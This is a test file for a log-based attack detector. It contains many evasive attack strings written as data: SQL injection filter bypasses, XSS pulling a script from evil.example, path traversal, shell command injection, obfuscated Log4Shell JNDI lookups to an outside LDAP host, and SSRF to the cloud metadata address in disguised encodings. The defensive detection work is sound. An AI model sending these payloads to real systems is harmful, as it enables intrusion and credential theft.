/**
 * Attacks written the ways attackers write them to slip past filters (sqlmap tamper scripts,
 * PayloadsAllTheThings bypass lists, the Log4Shell obfuscation lists), and benign traffic that
 * looks like them. Each `it` is one behaviour a responder relies on.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { LogCategory } from '../../../../src-main/contract/logs/logs';
import { parseLine } from '../../../../src-main/domain/logs/logFormats';
import { matchRecord } from '../../../../src-main/domain/logs/logMatch';
import type { LogRecord } from '../../../../src-main/domain/logs/logRecord';
import { compileLogRules, parseLogRules } from '../../../../src-main/domain/logs/logRules';
import { repoRoot } from '../../../support/consoleServer';
import { request } from './logSamples';

const parsed = parseLogRules(fs.readFileSync(path.join(repoRoot, 'resources', 'rules', 'logs.yaml'), 'utf8'));
if (!parsed.ok) throw new Error(parsed.message);
const compiled = compileLogRules(parsed);

const categories = (record: LogRecord): LogCategory[] => matchRecord(record, compiled).map((hit) => hit.category);
/** The categories of each query string sent to one page, in order. */
const perQuery = (page: string, queries: string[]) => queries.map((query) => [query, categories(request({ path: page, query }))]);
const syslog = (message: string) => parseLine(`<134>Nov 23 14:15:02 web01 app[4242]: ${message}`, 'syslog', { year: 2026 });

describe('evasions of the promised categories are still flagged', () => {
  it('flags UNION SELECT split by a MySQL # comment holding text (sqlmap space2morehash)', () => {
    expect(perQuery('/item.php', ['id=1%20UNION%23xqzkpw%0ASELECT%201,2', 'id=1%20UNION--%20abc%0ASELECT%201,2'])).toEqual([
      ['id=1%20UNION%23xqzkpw%0ASELECT%201,2', ['sqli']],
      ['id=1%20UNION--%20abc%0ASELECT%201,2', ['sqli']],
    ]);
  });

  it('flags a script tag after an unknown reference the HTML decoder once read on through (entities 7.0.1 ate its <)', () => {
    // A browser reads `&xiAdY` as text and runs the script; the decoder must leave it as written too.
    expect(perQuery('/search', ['q=&xiAdY<script%20src=//evil.example/x.js>', 'q=%26xiAdY%3Cscript%20src=//evil.example/x.js%3E'])).toEqual([
      ['q=&xiAdY<script%20src=//evil.example/x.js>', ['xss']],
      ['q=%26xiAdY%3Cscript%20src=//evil.example/x.js%3E', ['xss']],
    ]);
  });

  it('flags UNION glued to the number before it (1e0union, 1.0union, \\Nunion: MySQL WAF bypasses)', () => {
    const queries = ['id=1e0union%20select%201,2', 'id=1.0union%20select%201,2', 'id=%5CNunion%20select%201,2'];
    expect(perQuery('/item.php', queries)).toEqual(queries.map((query) => [query, ['sqli']]));
  });

  it('flags a BETWEEN tautology (sqlmap between tamper) like the = tautology it replaces', () => {
    expect(categories(request({ path: '/item.php', query: 'id=1%20AND%209227%3D9227' }))).toEqual(['sqli']);
    expect(categories(request({ path: '/item.php', query: 'id=1%20AND%209227%20BETWEEN%209227%20AND%209227' }))).toEqual(['sqli']);
  });

  it('flags a JSON body whose quotes are \\u0027 escapes the same as plain quotes', () => {
    const body = (user: string) => request({ method: 'POST', path: '/api/login', body: `{"user":"${user}","pass":"x"}` });
    expect(categories(body("admin' OR '1'='1"))).toEqual(['sqli']);
    expect(categories(body('admin\\u0027 OR \\u00271\\u0027=\\u00271'))).toEqual(['sqli']);
  });

  it('flags ....// climbs (a filter that strips ../ once leaves ../) without needing a system file at the end', () => {
    expect(categories(request({ path: '/download', query: 'file=....//....//....//app/config/database.yml' }))).toEqual(['path-traversal']);
  });

  it('flags IIS %u2215 and %u2216 (division and set-minus slashes) used as path separators in a climb', () => {
    expect(perQuery('/download', ['file=..%u2215..%u2215..%u2215app%u2215web.config', 'file=..%u2216..%u2216..%u2216app%u2216web.config'])).toEqual([
      ['file=..%u2215..%u2215..%u2215app%u2215web.config', ['path-traversal']],
      ['file=..%u2216..%u2216..%u2216app%u2216web.config', ['path-traversal']],
    ]);
  });

  it('flags a command after a URL-encoded newline (%0a is a command separator to the shell)', () => {
    expect(perQuery('/ping', ['host=127.0.0.1%0aid', 'host=127.0.0.1%0awhoami', 'host=127.0.0.1%0d%0auname%20-a'])).toEqual([
      ['host=127.0.0.1%0aid', ['command-injection']],
      ['host=127.0.0.1%0awhoami', ['command-injection']],
      ['host=127.0.0.1%0d%0auname%20-a', ['command-injection']],
    ]);
  });

  it("flags a command name split by quotes or a backslash (w'h'o'am'i, w\\hoami, c\"a\"t: the shell removes them)", () => {
    const queries = ["host=127.0.0.1;w'h'o'am'i", 'host=127.0.0.1;w%5Choami', 'host=127.0.0.1|c%22a%22t%20/app/config.yml'];
    expect(perQuery('/ping', queries)).toEqual(queries.map((query) => [query, ['command-injection']]));
  });

  it('flags Log4Shell lookups nested inside the word jndi, not only at its start (${j${::-n}di:, ${jn${lower:d}i:)', () => {
    const payloads = ['${j${::-n}di:ldap://198.51.100.9/a}', '${jn${lower:d}i:ldap://198.51.100.9/a}', '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.9/a}'];
    expect(payloads.map((payload) => [payload, categories(request({ userAgent: payload }))])).toEqual(payloads.map((payload) => [payload, ['command-injection']]));
  });

  it('flags the cloud metadata address written in octal, dotted hex or as IPv4-mapped IPv6', () => {
    const urls = ['http://0251.0376.0251.0376/latest/meta-data/', 'http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/', 'http://[::ffff:a9fe:a9fe]/latest/meta-data/'];
    expect(urls.map((url) => [url, categories(request({ path: '/fetch', query: `url=${encodeURIComponent(url)}` }))])).toEqual(urls.map((url) => [url, ['ssrf']]));
  });

  it('flags loopback URLs in their short spellings (127.1, 0, [::ffff:127.0.0.1])', () => {
    const urls = ['http://127.1/admin', 'http://0/admin', 'http://[::ffff:127.0.0.1]/admin'];
    expect(urls.map((url) => [url, categories(request({ path: '/fetch', query: `url=${encodeURIComponent(url)}` }))])).toEqual(urls.map((url) => [url, ['ssrf']]));
  });

  it('flags a probe for a private key at the web root (/id_rsa, /id_ed25519), as scanners send it', () => {
    expect(['/id_rsa', '/id_ed25519'].map((probe) => [probe, categories(request({ path: probe, status: 404 }))])).toEqual([
      ['/id_rsa', ['sensitive-file']],
      ['/id_ed25519', ['sensitive-file']],
    ]);
  });

  it('flags a path traversal an application logged in its syslog message (the request line it received)', () => {
    const record = syslog('GET /download?file=../../../../etc/passwd 200 from 203.0.113.7');
    expect(record.format).toBe('syslog');
    expect(categories(record)).toContain('path-traversal');
  });

  it('flags a UNION SELECT an application logged in its syslog message', () => {
    const record = syslog('GET /item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users 200 from 203.0.113.7');
    expect(record.format).toBe('syslog');
    expect(categories(record)).toContain('sqli');
  });
});

describe('lines that do not fit their file\'s format', () => {
  it('flags a probe on a JSON line inside an access log (read as plain text) as it would on its own', () => {
    const line = '{"time":"2026-11-23T14:15:04Z","ip":"203.0.113.9","method":"GET","path":"/.env","status":404}';
    expect(categories(parseLine(line, 'json', { year: 2026 }))).toEqual(['sensitive-file']);
    const misfit = parseLine(line, 'combined', { year: 2026 });
    expect(misfit.malformed).toBe(true);
    expect(categories(misfit)).toEqual(['sensitive-file']);
  });
});

describe('benign traffic that looks like an attack is not flagged', () => {
  it('does not call an OAuth loopback redirect of a native app (RFC 8252) an SSRF probe', () => {
    const queries = ['client_id=cli&response_type=code&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2Fcallback', 'client_id=cli&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fauth%2Fcallback'];
    expect(perQuery('/oauth/authorize', queries)).toEqual(queries.map((query) => [query, []]));
  });

  it('does not call a semicolon-separated field list (fields=name;id;email) a command injection', () => {
    expect(perQuery('/api/users', ['fields=name;id;email', 'fields=name|id|email'])).toEqual([
      ['fields=name;id;email', []],
      ['fields=name|id|email', []],
    ]);
  });

  it('does not call a Markdown comment quoting `ls -la` in backticks a command injection', () => {
    const body = JSON.stringify({ text: 'Run `ls -la` in the folder, then `cat notes.txt` to see it' });
    expect(categories(request({ method: 'POST', path: '/api/comments', status: 201, body }))).toEqual([]);
  });
});
